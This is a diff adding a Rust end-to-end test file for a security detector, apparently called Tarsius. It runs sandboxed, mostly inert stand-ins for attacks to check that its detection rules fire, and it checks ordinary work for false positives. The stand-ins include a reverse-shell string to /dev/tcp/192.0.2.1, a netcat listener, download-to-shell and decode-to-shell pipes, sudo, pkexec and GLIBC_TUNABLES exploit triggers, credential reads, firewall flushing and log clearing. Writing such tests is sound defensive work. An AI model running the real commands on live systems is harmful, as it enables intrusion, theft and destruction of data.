@@ -1,0 +1,160 @@
+//! The rules that come with Tarsius: each finds what is done for it, in a mount and network namespace of its own, and none finds what anybody does.
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::path::Path;
+
+use e2e::{Act, Line, Watch};
+
+use crate::Test;
+
+pub(crate) const TESTS: &[Test] =
+    &[("detector_rules_find_attacks", attacks), ("detector_rules_leave_work_alone", work)];
+
+/// What is changed below is gone with the namespace: files are over the host's, and the network is of its own.
+const PRELUDE: &str = "set -e
+mount --make-rprivate /
+mount -t tmpfs tmpfs /mnt
+for d in etc usr var root; do
+    mkdir -p /mnt/$d/upper /mnt/$d/work
+    mount -t overlay overlay -o lowerdir=/$d,upperdir=/mnt/$d/upper,workdir=/mnt/$d/work /$d
+done
+mount -t tmpfs tmpfs /tmp
+ip link set lo up
+export HOME=/root
+cd /tmp
+set +e
+exec </dev/null >/dev/null 2>&1
+";
+
+/// What a rule finds, and what is done for it. Some only have the words of an attack after a colon, which does nothing.
+const ATTACKS: &[(&str, &str)] = &[
+    ("temporary_directory_execution", "cp /bin/true /tmp/brought; /tmp/brought"),
+    ("download_executed", "curl -s -o /tmp/fetched file:///bin/true; chmod +x /tmp/fetched; /tmp/fetched"),
+    ("hidden_program_executed", "cp /bin/true /usr/.hidden; /usr/.hidden"),
+    ("kernel_thread_masquerading", "bash -c \"exec -a '[kworker/0:0]' /bin/true\""),
+    ("reverse_shell_command", "bash -c ': bash -i >& /dev/tcp/192.0.2.1/9'"),
+    ("decoded_to_shell", "sh -c 'echo Ogo= | base64 -d | sh'"),
+    ("download_to_shell", "sh -c 'curl -s file:///dev/null | sh'"),
+    ("loader_executes_program", "/lib64/ld-linux-x86-64.so.2 /bin/true"),
+    ("database_spawned_shell", "cp /bin/sh /usr/local/bin/postgres; /usr/local/bin/postgres -c 'sh -c true; true'"),
+    ("attack_tool_executed", "cp /bin/true /usr/local/bin/linpeas.sh; /usr/local/bin/linpeas.sh"),
+    ("shell_profile_modification", "echo >>/root/.bashrc"),
+    ("autostart_modification", "mkdir -p /etc/udev/rules.d; echo >/etc/udev/rules.d/99-tarsius.rules"),
+    ("git_hook_modification", "mkdir -p /root/r/.git/hooks; ln -s /bin/true /root/r/.git/hooks/pre-commit"),
+    ("account_file_modification", "cp /etc/passwd /etc/passwd.new; mv /etc/passwd.new /etc/passwd"),
+    (
+        "root_certificate_added",
+        "mkdir -p /usr/local/share/ca-certificates; echo >/usr/local/share/ca-certificates/tarsius.crt",
+    ),
+    (
+        "python_startup_modification",
+        "mkdir -p /usr/lib/python3/dist-packages; echo >/usr/lib/python3/dist-packages/tarsius.pth",
+    ),
+    ("remote_login_modification", "mkdir -p /etc/ssh/sshd_config.d; echo >/etc/ssh/sshd_config.d/tarsius.conf"),
+    ("name_resolution_modification", "echo >>/etc/hosts"),
+    // setxattr(2) of the capability set of nobody (VFS_CAP_REVISION_2, linux/capability.h).
+    (
+        "file_capability_set",
+        "cp /bin/true /usr/local/bin/capable
+        perl -e 'my ($p, $n, $v) = (\"/usr/local/bin/capable\", \"security.capability\", pack(\"V5\", 0x02000000, 0, 0, 0, 0));
+            syscall(188, $p, $n, $v, 20, 0)'",
+    ),
+    ("sudo_exploit_attempt", "cp /bin/true /usr/local/bin/sudo; /usr/local/bin/sudo -u#-1 id"),
+    ("pkexec_without_arguments", "cp /bin/true /usr/local/bin/pkexec; bash -c \"exec -a '' /usr/local/bin/pkexec\""),
+    ("glibc_tunables_exploit_attempt", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true"),
+    // A file of that path: the kernel's own is not there on every kernel.
+    ("usermode_helper_modification", "mkdir -p /tmp/cgroup; : >/tmp/cgroup/uevent_helper"),
+    (
+        "raw_device_access",
+        "mkdir -p /mnt/dev/mapper; echo >/mnt/dev/mapper/data
+        mount --bind /mnt/dev /dev; head -c 1 /dev/mapper/data; umount /dev",
+    ),
+    ("namespaces_entered", "nsenter --uts=/proc/self/ns/uts true"),
+    ("process_hidden_by_mount", "mount -t tmpfs tmpfs /proc/$$; umount /proc/$$"),
+    ("userfaultfd_unprivileged", "setpriv --reuid=65534 --clear-groups perl -e 'syscall(323, 1)'"),
+    ("timestamp_changed", "touch -d 2001-01-01 /tmp/old"),
+    ("security_service_stopped", "sh -c ': systemctl stop auditd'"),
+    ("audit_configuration_modification", "mkdir -p /etc/audit; echo >/etc/audit/auditd.conf"),
+    ("firewall_disabled", "sh -c ': iptables -F'"),
+    ("kernel_hardening_lowered", ": >>/proc/sys/kernel/randomize_va_space"),
+    ("kernel_log_cleared", "setpriv --reuid=65534 --clear-groups dmesg -C"),
+    ("log_truncated", "mkdir -p /var/log; : >/var/log/syslog"),
+    ("history_disabled", "ln -s /dev/null /root/.zsh_history"),
+    ("cloud_credentials_read", "mkdir -p /root/.aws; echo >/root/.aws/credentials; cat /root/.aws/credentials"),
+    ("process_environment_read", "cat /proc/$$/environ"),
+    ("packet_socket_opened", "perl -e 'socket(my $s, 17, 3, 0)'"),
+    ("port_scan", "bash -c 'for p in $(seq 1 25); do : </dev/tcp/127.0.0.1/$p; done'"),
+    ("host_scan", "bash -c 'for h in $(seq 1 35); do : </dev/tcp/127.0.0.$h/9; done'"),
+    (
+        "files_renamed_in_bulk",
+        "mkdir /tmp/files; for n in $(seq 1 60); do : >/tmp/files/$n; done
+        perl -e 'rename \"/tmp/files/$_\", \"/tmp/files/$_.locked\" for 1..60'",
+    ),
+    ("miner_executed", "sh -c ': --donate-level 1'"),
+    ("listener_executed", "sh -c ': nc -lvp 4444'"),
+    ("ssh_tunnel", "cp /bin/true /usr/local/bin/chisel; /usr/local/bin/chisel client"),
+    ("disk_wiped", "echo >/tmp/secret; shred -u /tmp/secret"),
+];
+
+/// What people and programs do all day.
+const WORK: &str = "
+ls -la /etc /usr/bin; cat /etc/hostname /etc/os-release /etc/passwd; grep -r root /etc/passwd
+mkdir -p /root/work; cd /root/work
+for n in $(seq 1 60); do echo $n >file$n; done
+for n in $(seq 1 60); do mv file$n other$n; done
+tar cf all.tar other*; gzip all.tar; tar xzf all.tar.gz; cp -r /root/work /root/copy; rm -r /root/copy
+sha256sum other1; sort other1; head -c 10 /dev/zero; dd if=/dev/zero of=image count=1
+ln -s other1 link; touch other1; chmod 640 other1; find . -name 'other1*'
+sh -c 'echo aGVsbG8= | base64 -d'; echo hello | tr a-z A-Z | sed s/H/J/
+curl -s -o page http://127.0.0.1:9/; curl -s -o page file:///etc/hostname; cat page
+for n in $(seq 1 30); do curl -s http://127.0.0.1:9/; done
+perl -e 'print 1'; ps; env; sleep 0; true; nice true; nohup true; setsid true; xargs true; timeout 1 true
+useradd --help; systemctl --version; ssh -V; git --version; openssl version; ip addr
+";
+
+/// The findings of a script's processes.
+fn findings(script: &str) -> Vec<Line> {
+    let dir = tempfile::Builder::new().prefix("tarsius-rules-").tempdir_in("/var/tmp").unwrap();
+    let path = dir.path().join("script");
+    fs::write(&path, format!("{PRELUDE}{script}")).unwrap();
+    let command = format!("unshare --mount --net --ipc --uts /bin/bash {}", path.display());
+    let mut act = Act::new("commands", &[command]);
+    let scope = format!("tree={}", act.pid());
+    let watch = Watch::start(&["--events", "detectors,sched_process_exec", "--scope", &scope]);
+    act.perform();
+    let account = watch.stop();
+    account.assert_clean();
+    crate::session::validate(&account);
+    let (found, executed): (Vec<Line>, Vec<Line>) =
+        account.lines.0.into_iter().partition(|l| l.0.get("detector").is_some());
+    assert!(executed.len() > 50, "the script did little: {executed:?}");
+    found
+}
+
+fn attacks(name: &str) {
+    if !Path::new("/proc/sys/kernel/randomize_va_space").exists() {
+        println!("SKIP {name}: this kernel has no setting for address space randomization");
+        return;
+    }
+    let script: String = ATTACKS.iter().map(|(_, done)| format!("{done}\n")).collect();
+    let found = findings(&script);
+    let found: BTreeSet<&str> = found.iter().filter_map(|l| l.0["name"].as_str()).collect();
+    let missing: Vec<&str> =
+        ATTACKS.iter().map(|(name, _)| *name).filter(|name| !found.contains(name)).collect();
+    assert_eq!(missing, [""; 0], "of {found:?}");
+}
+
+/// The control: nothing of medium severity or more, and no rule of ours at all, where nobody does harm.
+fn work(_: &str) {
+    let found = findings(WORK);
+    let wrong: Vec<_> = found
+        .iter()
+        .filter(|l| {
+            let ours = l.0["detector"].as_str().is_some_and(|id| id.starts_with("TAR-"));
+            ours || !["INFO", "LOW"].iter().any(|s| l.0["threat"]["severity"] == *s)
+        })
+        .map(|l| (&l.0["name"], &l.0["detected_from"]["data"]))
+        .collect();
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
